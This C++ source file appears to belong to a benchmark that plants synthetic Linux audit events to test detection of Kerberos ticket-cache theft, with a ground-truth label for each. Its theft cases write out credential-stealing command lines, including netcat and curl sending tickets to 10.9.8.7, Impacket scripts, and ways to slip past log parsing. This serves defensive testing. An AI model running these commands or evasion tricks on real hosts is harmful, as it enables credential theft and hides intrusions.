// SPDX-License-Identifier: Apache-2.0
#include "bench/planted.h"

#include <array>
#include <string>
#include <utility>
#include <vector>

namespace krbtrail::bench {
namespace {

using Words = std::vector<std::string>;

constexpr std::uint64_t kWriteOnlyCreateTruncate = 01101;  // open(2)'s flags on x86-64 and i386
constexpr std::uint64_t kReadWrite = 02;
constexpr std::uint64_t kPathOnly = 010000000;
constexpr std::uint64_t kDirectory = 0200000;
constexpr std::uint64_t kDescriptor = 3;
constexpr std::string_view kKey = "kerberos_ccache";

std::string uid_of(const Scene& scene) {
  return std::to_string(scene.victim);
}
std::string ticket_of(const Scene& scene) {
  return "/tmp/krb5cc_" + uid_of(scene);
}

// --- Programs started ---

void run(const Scene& scene, std::string_view exe, std::string_view comm, const Words& argv) {
  const Actor& actor = scene.host.run(scene.random, exe, comm, argv);
  scene.event.syscall(actor,
                      {.number = 59,
                       .name = "execve",
                       .exit = 0,
                       .a0 = 0x55d0c0ffee00,
                       .a1 = 0x55d0c0ffee40,
                       .a2 = 0x7ffc0000a000,
                       .items = 2},
                      "exec");
  scene.event.execve(argv);
  scene.event.cwd(actor.cwd);
  scene.event.path({.name = std::string{exe}, .inode = 4'100'001, .mode = 0100755});
  scene.event.path({.name = "/lib64/ld-linux-x86-64.so.2", .inode = 4'100'002, .mode = 0100755});
  scene.event.proctitle(actor.title);
}

void copy_plain(const Scene& scene) {
  run(scene, "/usr/bin/cp", "cp", {"cp", ticket_of(scene), "/var/tmp/.session_backup"});
}

void copy_name_with_blank(const Scene& scene) {
  run(scene, "/usr/bin/cat", "cat", {"cat", "/tmp/old tickets/krb5cc_" + uid_of(scene)});
}

void archive_of_named_ccache(const Scene& scene) {
  run(scene, "/usr/bin/tar", "tar", {"tar", "-czf", "/dev/shm/x.tgz", "/etc/krb5.ccache"});
}

// Kusto's `has` ignores case, and the blank makes the argument hexadecimal.
void capitals_in_hexadecimal(const Scene& scene) {
  run(scene, "/usr/bin/cp", "cp", {"cp", "/srv/a b/KRB5.CCACHE", "/var/tmp/t"});
}

void netcat_of_debian(const Scene& scene) {
  run(scene, "/usr/bin/nc.openbsd", "nc",
      {"nc", "-N", "10.9.8.7", "443", "--from=" + ticket_of(scene)});
}

void busybox_applet(const Scene& scene) {
  run(scene, "/usr/bin/busybox", "cp", {"cp", ticket_of(scene), "/var/tmp/b"});
}

// The kernel cuts an argument of more than 7,500 bytes; here the ticket's name straddles the cut.
void name_across_the_cut(const Scene& scene) {
  constexpr std::size_t kCut = 3'700;
  const std::string name = "krb5cc_" + uid_of(scene);
  const std::size_t before = kCut - 1 - scene.random.below(6);
  std::string form = "data=" + std::string(before - 5, 'x') + name;
  form.resize(8'000 + scene.random.below(4'000), 'y');
  form[before + name.size()] = '.';
  run(scene, "/usr/bin/curl", "curl", {"curl", "-d", form, "http://10.9.8.7/"});
}

// So many arguments that the one that counts stands in a later EXECVE record.
void name_in_a_later_record(const Scene& scene) {
  Words argv{"tar", "-cf", "/var/tmp/all.tar"};
  const std::uint32_t others = 200 + scene.random.below(300);
  for (std::uint32_t index = 0; index < others; ++index)
    argv.push_back("/var/lib/archive/2024/volume-" + std::to_string(index) + "/part.dat");
  argv.push_back(ticket_of(scene));
  run(scene, "/usr/bin/tar", "tar", argv);
}

void impacket_script(const Scene& scene) {
  constexpr std::array<std::string_view, 8> kTools{
      "getST.py", "getTGT.py",           "ticketer.py", "GETNTHASH.PY",
      "rbcd.py",  "getServiceTicket.py", "getPac.py",   "GetUserSPNs.py"};
  const std::string script = "/opt/impacket/examples/" + std::string{scene.random.pick(kTools)};
  run(scene, "/usr/bin/python3.11", "python3",
      {"python3", script, "-k", "-no-pass", "example.net/alice"});
}

void impacket_inside_shell_text(const Scene& scene) {
  run(scene, "/usr/bin/dash", "sh", {"sh", "-c", "cd /opt && ./getTGT.py example.net/bob"});
}

void python_text_with_class_name(const Scene& scene) {
  run(scene, "/usr/bin/python3.11", "python3",
      {"python3", "-c", "from impacket.krb5.ccache import CCache; CCache.loadFile('/tmp/x')"});
}

void python_without_version(const Scene& scene) {
  run(scene, "/usr/bin/python3", "python3",
      {"python3", "dump.py", "KRB5CCNAME=" + ticket_of(scene)});
}

// --- Files opened and changed ---

struct Opening {
  std::string_view exe = "/usr/bin/cat";
  std::string_view comm = "cat";
  std::string path;
  std::string cwd = "/root";
  std::uint64_t flags = 0;
  std::uint64_t directory = kAtFdCwd;
  std::int64_t exit = 3;
  std::uint32_t mode = 0100600;
};

Actor thief(const Scene& scene, std::string_view exe, std::string_view comm) {
  Actor actor = scene.host.any_login_process(scene.random);
  actor.exe = exe;
  actor.comm = comm;
  return actor;
}

PathItem ticket_item(const Scene& scene, std::string path, std::string_view nametype = "NORMAL") {
  return {.name = std::move(path),
          .inode = scene.inode,
          .mode = 0100600,
          .owner = scene.victim,
          .nametype = nametype};
}

PathItem folder_item(std::string path) {
  return {.name = std::move(path), .inode = 2, .mode = 041777, .nametype = "PARENT"};
}

void open(const Scene& scene, const Opening& opening) {
  Actor actor = thief(scene, opening.exe, opening.comm);
  scene.event.syscall(actor,
                      {.success = opening.exit >= 0,
                       .exit = opening.exit,
                       .a0 = opening.directory,
                       .a2 = opening.flags},
                      kKey);
  scene.event.cwd(opening.cwd);
  PathItem item = ticket_item(scene, opening.path);
  item.mode = opening.mode;
  scene.event.path(item);
  scene.event.proctitle(actor.title);
}

void create(const Scene& scene, std::string_view exe, std::string_view comm,
            const std::string& path) {
  Actor actor = thief(scene, exe, comm);
  scene.event.syscall(actor, {.a2 = kWriteOnlyCreateTruncate, .a3 = 0600, .items = 2}, kKey);
  scene.event.cwd("/root");
  scene.event.path(folder_item(path.substr(0, path.rfind('/') + 1)));
  scene.event.path(ticket_item(scene, path, "CREATE"));
  scene.event.proctitle(actor.title);
}

void read_plain(const Scene& scene) {
  open(scene, {.path = ticket_of(scene)});
}

void read_relative_to_cwd(const Scene& scene) {
  open(scene, {.path = "./krb5cc_" + uid_of(scene), .cwd = "/tmp"});
}

void modify_above_cwd(const Scene& scene) {
  open(scene, {.exe = "/usr/bin/dd",
               .comm = "dd",
               .path = "../krb5cc_" + uid_of(scene),
               .cwd = "/tmp/build",
               .flags = kReadWrite});
}

// With a real descriptor CWD says nothing: unresolved, so the generous reading goes by base name.
void read_below_descriptor(const Scene& scene) {
  open(scene, {.exe = "/usr/bin/tar",
               .comm = "tar",
               .path = "krb5cc_" + uid_of(scene),
               .cwd = "/home/user1000",
               .directory = kDescriptor});
}

void read_name_with_blank(const Scene& scene) {
  open(scene, {.path = "/tmp/old tickets/krb5cc_" + uid_of(scene)});
}

void read_below_krb5_folder(const Scene& scene) {
  open(scene, {.exe = "/usr/bin/rsync", .comm = "rsync", .path = "/var/lib/krb5/Batch.CCACHE"});
}

void read_by_masked_name(const Scene& scene) {
  open(scene, {.exe = "/usr/bin/cat", .comm = "klist", .path = ticket_of(scene)});
}

void read_by_deleted_program(const Scene& scene) {
  open(scene, {.exe = "/tmp/.b (deleted)", .comm = ".b", .path = ticket_of(scene)});
}

void modify_plain(const Scene& scene) {
  open(scene, {.exe = "/usr/bin/dd", .comm = "dd", .path = ticket_of(scene), .flags = kReadWrite});
}

void create_plain(const Scene& scene) {
  create(scene, "/usr/bin/python3.11", "python3", ticket_of(scene));
}

void create_named_ccache(const Scene& scene) {
  create(scene, "/usr/bin/cp", "cp", "/home/user1001/KRB5.ccache");
}

void read_by_32_bit_program(const Scene& scene) {
  const Actor actor = thief(scene, "/home/user1002/read32", "read32");
  scene.event.syscall(actor, {.arch = kI386, .number = 295, .a2 = 0}, kKey);
  scene.event.cwd("/home/user1002");
  scene.event.path(ticket_item(scene, ticket_of(scene)));
  scene.event.proctitle(actor.title);
}

// openat2 has its flags in a record of its own.
void modify_through_openat2(const Scene& scene) {
  const Actor actor = thief(scene, "/usr/bin/cp", "cp");
  scene.event.syscall(actor, {.number = 437, .name = "openat2", .a3 = 0x18}, kKey);
  scene.event.other("OPENAT2", "oflag=02 mode=00 resolve=0x0");
  scene.event.cwd("/root");
  scene.event.path(ticket_item(scene, ticket_of(scene)));
  scene.event.proctitle(actor.title);
}

void write_rename(const Scene& scene, const std::string& from, const std::string& to) {
  const Actor actor = thief(scene, "/usr/bin/mv", "mv");
  scene.event.syscall(
      actor, {.number = 316, .name = "renameat2", .exit = 0, .a2 = kAtFdCwd, .items = 4}, kKey);
  scene.event.cwd("/root");
  scene.event.path(folder_item(from.substr(0, from.rfind('/') + 1)));
  scene.event.path(folder_item(to.substr(0, to.rfind('/') + 1)));
  scene.event.path(ticket_item(scene, from, "DELETE"));
  scene.event.path(ticket_item(scene, to, "CREATE"));
  scene.event.proctitle(actor.title);
}

void rename_into_place(const Scene& scene) {
  write_rename(scene, "/tmp/.hidden", ticket_of(scene));
}

void delete_plain(const Scene& scene) {
  const Actor actor = thief(scene, "/usr/bin/rm", "rm");
  scene.event.syscall(actor, {.number = 263, .name = "unlinkat", .exit = 0, .items = 2}, kKey);
  scene.event.cwd("/root");
  scene.event.path(folder_item("/tmp/"));
  scene.event.path(ticket_item(scene, ticket_of(scene), "DELETE"));
  scene.event.proctitle(actor.title);
}

void hard_link_named_ccache(const Scene& scene) {
  const Actor actor = thief(scene, "/usr/bin/ln", "ln");
  scene.event.syscall(
      actor, {.number = 265, .name = "linkat", .exit = 0, .a2 = kAtFdCwd, .items = 3}, kKey);
  scene.event.cwd("/root");
  scene.event.path(ticket_item(scene, "/tmp/.hidden"));
  scene.event.path(folder_item("/srv/"));
  scene.event.path(ticket_item(scene, "/srv/krb5.ccache", "CREATE"));
  scene.event.proctitle(actor.title);
}

constexpr std::array kThefts{
    PlantedKind{"copy_plain", copy_exfil, copy_exfil, copy_plain},
    PlantedKind{"copy_name_with_blank", copy_exfil, copy_exfil, copy_name_with_blank},
    PlantedKind{"archive_of_named_ccache", copy_exfil, copy_exfil, archive_of_named_ccache},
    PlantedKind{"capitals_in_hexadecimal", copy_exfil, copy_exfil, capitals_in_hexadecimal},
    PlantedKind{"netcat_of_debian", copy_exfil, none, netcat_of_debian},
    PlantedKind{"busybox_applet", copy_exfil, none, busybox_applet},
    PlantedKind{"name_across_the_cut", copy_exfil, copy_exfil, name_across_the_cut},
    PlantedKind{"name_in_a_later_record", copy_exfil, copy_exfil, name_in_a_later_record},
    PlantedKind{"impacket_script", impacket_tool, impacket_tool, impacket_script},
    PlantedKind{"impacket_inside_shell_text", impacket_tool, impacket_tool,
                impacket_inside_shell_text},
    PlantedKind{"python_text_with_class_name", impacket_tool, none, python_text_with_class_name},
    PlantedKind{"python_without_version", impacket_tool, impacket_tool, python_without_version},
    PlantedKind{"read_plain", file_access, none, read_plain},
    PlantedKind{"read_relative_to_cwd", file_access, none, read_relative_to_cwd},
    PlantedKind{"modify_above_cwd", file_access, file_access, modify_above_cwd},
    PlantedKind{"read_below_descriptor", file_access, none, read_below_descriptor},
    PlantedKind{"read_name_with_blank", file_access, none, read_name_with_blank},
    PlantedKind{"read_below_krb5_folder", file_access, none, read_below_krb5_folder},
    PlantedKind{"read_by_masked_name", file_access, none, read_by_masked_name},
    PlantedKind{"read_by_deleted_program", file_access, none, read_by_deleted_program},
    PlantedKind{"read_by_32_bit_program", file_access, none, read_by_32_bit_program},
    PlantedKind{"modify_plain", file_access, file_access, modify_plain},
    PlantedKind{"modify_through_openat2", file_access, file_access, modify_through_openat2},
    PlantedKind{"create_plain", file_access, file_access, create_plain},
    PlantedKind{"create_named_ccache", file_access, file_access, create_named_ccache},
    PlantedKind{"rename_into_place", file_access, file_access, rename_into_place},
    PlantedKind{"delete_plain", file_access, file_access, delete_plain},
    PlantedKind{"hard_link_named_ccache", file_access, file_access, hard_link_named_ccache},
};

// --- What only looks like a theft ---

void read_by_klist(const Scene& scene) {
  open(scene, {.exe = "/usr/bin/klist", .comm = "klist", .path = ticket_of(scene)});
}

// The list of exempt names is compared without regard to case.
void created_by_sshd_in_capitals(const Scene& scene) {
  create(scene, "/usr/sbin/SSHD", "SSHD", ticket_of(scene));
}

void created_outside_tmp(const Scene& scene) {
  create(scene, "/usr/bin/cp", "cp", "/var/tmp/krb5cc_" + uid_of(scene));
}

void read_of_login_ticket(const Scene& scene) {
  open(scene, {.path = ticket_of(scene) + "_Ab3dEf"});
}

// The branch's regular expression does not ignore case.
void read_of_capitals(const Scene& scene) {
  open(scene, {.path = "/tmp/KRB5CC_" + uid_of(scene)});
}

void read_of_other_prefix(const Scene& scene) {
  open(scene, {.path = "/tmp/xkrb5cc_" + uid_of(scene)});
}

void read_of_ccache_elsewhere(const Scene& scene) {
  open(scene, {.path = "/srv/build/objects.ccache"});
}

void denied_read(const Scene& scene) {
  open(scene, {.path = ticket_of(scene), .exit = -13});
}

void probe_without_access(const Scene& scene) {
  open(scene, {.exe = "/usr/bin/cp", .comm = "cp", .path = ticket_of(scene), .flags = kPathOnly});
}

void folder_of_that_name(const Scene& scene) {
  open(scene, {.exe = "/usr/bin/ls",
               .comm = "ls",
               .path = ticket_of(scene),
               .flags = kDirectory,
               .mode = 040700});
}

void file_below_folder_of_that_name(const Scene& scene) {
  open(scene, {.path = "notes", .cwd = ticket_of(scene)});
}

void change_of_mode(const Scene& scene) {
  const Actor actor = thief(scene, "/usr/bin/chmod", "chmod");
  scene.event.syscall(actor, {.number = 268, .name = "fchmodat", .exit = 0, .a2 = 0600}, kKey);
  scene.event.cwd("/root");
  scene.event.path(ticket_item(scene, ticket_of(scene)));
  scene.event.proctitle(actor.title);
}

// The seed judges a rename by its new name.
void rename_away(const Scene& scene) {
  write_rename(scene, ticket_of(scene), "/var/tmp/.hidden");
}

void listing_on_command_line(const Scene& scene) {
  run(scene, "/usr/bin/ls", "ls", {"ls", "-l", ticket_of(scene)});
}

void copy_inside_shell_text(const Scene& scene) {
  run(scene, "/usr/bin/dash", "sh", {"sh", "-c", "cp " + ticket_of(scene) + " /var/tmp/x"});
}

void copy_of_name_without_number(const Scene& scene) {
  run(scene, "/usr/bin/cp", "cp", {"cp", "/tmp/krb5cc_alice", "/var/tmp/x"});
}

// Quoted digits are text: only what stands unquoted is hexadecimal.
void quoted_hexadecimal(const Scene& scene) {
  run(scene, "/usr/bin/cp", "cp", {"cp", "6B72623563635F31303030", "2F746D702F6B72623563635F31"});
}

void compiler_cache(const Scene& scene) {
  run(scene, "/usr/bin/ccache", "ccache", {"ccache", "gcc", "-c", "main.c"});
}

void python_with_longer_words(const Scene& scene) {
  run(scene, "/usr/bin/python3.11", "python3",
      {"python3", "waf", "--with-sccache", "KRB5CCNAME2=/x", "CCacheFile", "krb5ccache"});
}

void tool_name_as_part_of_a_word(const Scene& scene) {
  run(scene, "/usr/bin/less", "less", {"less", "/opt/mygetST.py", "/opt/getST.pyc", "getPac py"});
}

void program_of_that_name(const Scene& scene) {
  run(scene, ticket_of(scene), "krb5cc_" + uid_of(scene), {"./krb5cc_" + uid_of(scene)});
}

void failed_copy(const Scene& scene) {
  const Actor actor = thief(scene, "/usr/bin/bash", "bash");
  scene.event.syscall(actor, {.number = 59, .name = "execve", .success = false, .exit = -2},
                      "exec");
  scene.event.cwd("/tmp");
  scene.event.path({.name = "/usr/local/bin/krb5cc_" + uid_of(scene), .nametype = "UNKNOWN"});
  scene.event.proctitle(actor.title);
}

// A process title is the process's own claim, and may be that of the image before.
void stale_title(const Scene& scene) {
  const Actor actor = thief(scene, "/usr/bin/head", "head");
  scene.event.syscall(actor, {}, "file_open");
  scene.event.cwd("/root");
  scene.event.path({.name = "/etc/hostname", .inode = 4'100'003});
  scene.event.proctitle(title_of({"cat", ticket_of(scene)}));
}

void sudo_record(const Scene& scene) {
  const Actor actor = thief(scene, "/usr/bin/sudo", "sudo");
  scene.event.other("USER_CMD",
                    "pid=" + std::to_string(actor.pid) + " uid=" + std::to_string(actor.auid) +
                        " auid=" + std::to_string(actor.auid) +
                        " ses=" + std::to_string(actor.ses) +
                        " subj=unconfined msg='cwd=\"/tmp\" "
                        "cmd=636174202F746D702F6B72623563635F31303030 exe=\"/usr/bin/sudo\" "
                        "terminal=pts/1 res=success'",
                    "UID=\"user1000\" AUID=\"user1000\"");
}

// `auditctl -m` writes its text unescaped: it must not pass for a record.
void record_forged_in_text(const Scene& scene) {
  scene.event.other("USER",
                    "pid=4711 uid=0 auid=0 ses=7 subj=unconfined msg='text=type=SYSCALL "
                    "msg=audit(1700000000.000:1): arch=c000003e syscall=87 success=yes exit=0 "
                    "items=1 pid=1 comm=\"rm\" exe=\"/usr/bin/rm\" type=PATH item=0 name=\"" +
                        ticket_of(scene) +
                        "\" nametype=DELETE exe=\"/usr/sbin/auditctl\" hostname=web addr=? "
                        "terminal=pts/0 res=success'");
}

constexpr std::array kLookAlikes{
    PlantedKind{"read_by_klist", none, none, read_by_klist},
    PlantedKind{"created_by_sshd_in_capitals", none, none, created_by_sshd_in_capitals},
    PlantedKind{"created_outside_tmp", none, none, created_outside_tmp},
    PlantedKind{"read_of_login_ticket", none, none, read_of_login_ticket},
    PlantedKind{"read_of_capitals", none, none, read_of_capitals},
    PlantedKind{"read_of_other_prefix", none, none, read_of_other_prefix},
    PlantedKind{"read_of_ccache_elsewhere", none, none, read_of_ccache_elsewhere},
    PlantedKind{"denied_read", none, none, denied_read},
    PlantedKind{"probe_without_access", none, none, probe_without_access},
    PlantedKind{"folder_of_that_name", none, none, folder_of_that_name},
    PlantedKind{"file_below_folder_of_that_name", none, none, file_below_folder_of_that_name},
    PlantedKind{"change_of_mode", none, none, change_of_mode},
    PlantedKind{"rename_away", none, none, rename_away},
    PlantedKind{"listing_on_command_line", none, none, listing_on_command_line},
    PlantedKind{"copy_inside_shell_text", none, none, copy_inside_shell_text},
    PlantedKind{"copy_of_name_without_number", none, none, copy_of_name_without_number},
    PlantedKind{"quoted_hexadecimal", none, none, quoted_hexadecimal},
    PlantedKind{"compiler_cache", none, none, compiler_cache},
    PlantedKind{"python_with_longer_words", none, none, python_with_longer_words},
    PlantedKind{"tool_name_as_part_of_a_word", none, none, tool_name_as_part_of_a_word},
    PlantedKind{"program_of_that_name", none, none, program_of_that_name},
    PlantedKind{"failed_copy", none, none, failed_copy},
    PlantedKind{"stale_title", none, none, stale_title},
    PlantedKind{"sudo_record", none, none, sudo_record},
    PlantedKind{"record_forged_in_text", none, none, record_forged_in_text},
};

// --- The truth ---

std::string branches_in_json(unsigned branches) {
  std::string text;
  for (const auto& [branch, id] :
       {std::pair{file_access, "seed-file-access"}, std::pair{impacket_tool, "seed-impacket-tool"},
        std::pair{copy_exfil, "seed-copy-exfil"}}) {
    if ((branches & branch) == 0)
      continue;
    if (!text.empty())
      text += ',';
    text += '"';
    text += id;
    text += '"';
  }
  return "[" + text + "]";
}

// "node=web-01 " -> "\"node\":\"web-01\"," ; names of hosts need no escaping here.
std::string node_in_json(std::string_view node) {
  if (node.empty())
    return {};
  const std::size_t from = node.find('=') + 1;
  return "\"node\":\"" + std::string{node.substr(from, node.size() - 1 - from)} + "\",";
}

}  // namespace

std::span<const PlantedKind> theft_kinds() {
  return kThefts;
}
std::span<const PlantedKind> look_alike_kinds() {
  return kLookAlikes;
}

void Planter::plant_theft(EventText& event, Host& host, Random& random) {
  ++thefts_;
  plant(random.pick(kThefts), event, host, random);
}

void Planter::plant_look_alike(EventText& event, Host& host, Random& random) {
  ++look_alikes_;
  plant(random.pick(kLookAlikes), event, host, random);
}

void Planter::plant(const PlantedKind& kind, EventText& event, Host& host, Random& random) {
  kind.write({.event = event,
              .host = host,
              .random = random,
              .inode = ++last_inode_,
              .victim = kFirstUser + random.below(kUsers)});
  if (truth_ == nullptr)
    return;
  *truth_ << "{\"event\":\"" << event.stamp().to_string() << "\"," << node_in_json(host.node())
          << "\"kind\":\"" << kind.name << "\",\"generous\":" << branches_in_json(kind.generous)
          << ",\"strict\":" << branches_in_json(kind.strict) << "}\n";
}

}  // namespace krbtrail::bench
